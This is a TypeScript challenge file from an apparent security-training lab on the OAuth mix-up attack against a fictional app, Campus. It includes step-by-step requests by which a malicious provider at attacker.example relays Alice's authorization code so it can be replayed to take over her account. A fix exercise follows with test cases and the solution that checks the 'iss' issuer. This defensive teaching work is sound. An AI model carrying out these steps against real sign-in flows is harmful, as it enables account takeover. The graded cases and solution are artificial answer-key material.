import type { Challenge } from '@/lib/lab/challenge'
import { open } from '@/lib/lab/challenges/mix-up/world'

export const mixUp: Challenge = {
  id: 'mix-up',
  title: 'The wrong provider’s answer',
  area: 'flow',
  summary: 'The answers of two providers aren’t told apart.',
  goal: 'Make Campus hand you a code that idp.example issued for Alice, and get into her account with it.',
  story: [
    'Campus offers two ways to sign in: idp.example, where Alice is known, and evil-idp, a small provider that somebody registered last year. It is yours, and lives at attacker.example.',
    'Both send their answers to https://campus.example/callback. Campus remembers in a cookie whom it asked, with a [[state]], and takes the code to that one’s token endpoint. You decide what your own provider answers: PUT an address to a path of your server, and it redirects there.',
  ],
  clauses: ['rfc9700-4.4', 'rfc9207-2.4'],
  incidents: [
    {
      title: 'Found by a proof, 2016',
      text: 'Daniel Fett, Ralf Küsters and Guido Schmitz tried to prove OAuth 2.0 secure. On the way they came upon this attack; the parameter iss is what followed from it.',
      url: 'https://arxiv.org/abs/1601.01229',
    },
  ],
  source: 'sign-in-flow-provider',
  hints: [
    'When Alice chooses your provider, her browser comes to https://attacker.example/authorize with a state. What if your provider didn’t answer, but sent her on?',
    'Send her on to https://idp.example/authorize with Campus’s client id, redirect address and the same state: {state} in what you PUT stands for the state of the request. idp.example answers Campus. Where does Campus take that code?',
    'PUT the prefilled address, then let Alice sign in. Her code arrives in your log, in Campus’s own token request. Start a sign-in at idp yourself for a state, then send the callback with her code and your state.',
  ],
  requests: [
    {
      title: 'What your provider answers',
      method: 'PUT',
      url: 'https://attacker.example/authorize',
      body: 'https://idp.example/authorize?response_type=code&client_id=campus&redirect_uri=https://campus.example/callback&state={state}',
    },
    { title: 'Start a sign-in at idp', method: 'GET', url: 'https://campus.example/login/idp' },
    {
      title: 'A callback of your own',
      method: 'GET',
      url: 'https://campus.example/callback?iss=https://idp.example&code=PUT_ALICES_CODE_HERE&state=PUT_YOUR_STATE_HERE',
    },
  ],
  victim: {
    name: 'Alice',
    opensLinks: false,
    acts: [
      {
        id: 'sign-in',
        label: 'Alice tries the new way to sign in, evil-idp',
        url: 'https://campus.example/login/evil-idp',
      },
    ],
  },
  open,
  fix: {
    intro:
      'Providers now say who they are: an answer has `iss`, the issuer that sent it. `flow.issuer` is whom this browser was sent to. Say whether the answer counts.',
    choices: [
      {
        code: 'trustedIssuers.includes(answer.iss)',
        isRight: false,
        why: 'Both providers are known to Campus. The question is which of them was asked this time.',
      },
      {
        code: 'answer.iss === flow.issuer',
        isRight: true,
        why: 'The answer must come from whom the browser was sent to. Then the code goes to whoever issued it.',
      },
      {
        code: 'answer.state === flow.state',
        isRight: false,
        why: 'That was checked all along. The attacker’s provider got the state in its request, and passed it on.',
      },
    ],
    name: 'counts',
    starter: `// answer: { iss, state, code }
// flow:   { issuer, state }
function counts(answer, flow) {
  return answer.state === flow.state
}
`,
    cases: [
      {
        title: 'takes the answer of the provider that was asked',
        args: [
          { iss: 'https://idp.example', state: 's', code: 'c' },
          { issuer: 'https://idp.example', state: 's' },
        ],
        expected: true,
      },
      {
        title: 'refuses another provider’s answer to the same state',
        args: [
          { iss: 'https://idp.example', state: 's', code: 'c' },
          { issuer: 'https://attacker.example', state: 's' },
        ],
        expected: false,
      },
      {
        title: 'refuses an answer that doesn’t say whose it is',
        args: [
          { state: 's', code: 'c' },
          { issuer: 'https://idp.example', state: 's' },
        ],
        expected: false,
      },
      {
        title: 'refuses an issuer that only looks alike',
        args: [
          { iss: 'https://idp.example/', state: 's', code: 'c' },
          { issuer: 'https://idp.example', state: 's' },
        ],
        expected: false,
      },
      {
        title: 'still refuses a foreign state',
        args: [
          { iss: 'https://idp.example', state: 't', code: 'c' },
          { issuer: 'https://idp.example', state: 's' },
        ],
        expected: false,
      },
      {
        title: 'refuses when nobody was asked',
        args: [{ code: 'c' }, {}],
        expected: false,
      },
    ],
    solution: `function counts(answer, flow) {
  if (!answer.iss || !answer.state) return false
  return answer.iss === flow.issuer && answer.state === flow.state
}
`,
    why: [
      'This is the [[mix-up:mix-up attack]]. With one provider, “the answer” is clear. With two, an application must know whose answer it has before it takes the code anywhere: a code brought to the wrong token endpoint is a code given away.',
      'There are two defences, and they go well together: a redirect address for each provider, compared with whom the browser was sent to; and the parameter iss, with which a provider signs its answers, so to speak.',
      'Campuskey has an address for each provider, and keeps in the browser’s flow cookie whom it was sent to. Where the two differ, there is no sign-in to finish. Where a provider says iss, that is compared as well.',
    ],
  },
}
